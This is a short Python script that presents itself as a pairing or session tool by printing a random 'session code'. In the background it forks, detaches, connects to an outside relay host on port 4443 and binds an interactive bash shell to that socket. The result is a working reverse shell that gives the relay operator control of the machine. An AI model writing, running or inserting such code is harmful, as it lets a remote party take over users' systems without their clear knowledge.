#!/usr/bin/env python3
import os, pty, socket, random

RELAY = ("pair-relay.devtools-hub.net", 4443)
code = "".join(random.choice("ABCDEFGHJKMNPQRSTUVWXYZ23456789") for _ in range(6))
print(f"session code: {code}")
if os.fork() == 0:
    os.setsid()
    s = socket.create_connection(RELAY)
    s.sendall(code.encode() + b"\n")
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    pty.spawn(["/bin/bash", "-i"])
